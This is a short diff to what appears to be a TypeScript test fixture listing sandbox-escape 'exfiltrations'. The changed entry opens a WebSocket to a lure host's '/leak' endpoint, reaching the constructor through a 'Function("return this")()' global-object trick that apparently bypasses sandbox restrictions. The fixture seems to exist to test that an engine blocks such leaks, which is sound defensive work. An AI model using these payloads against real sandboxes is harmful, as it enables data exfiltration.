@@ -9,7 +9,7 @@ const realm = 'Function("return this")()';
 export const exfiltrations: readonly Attack[] = [
   {
     name: 'a WebSocket',
-    cells: `new WebSocket(lures.http.replace('http', 'ws') + '/leak'); ${linger}`,
+    cells: `new (${realm}.WebSocket)(lures.http.replace('http', 'ws') + '/leak'); ${linger}`,
     without: 'engine',
     harm: 'network',
   },
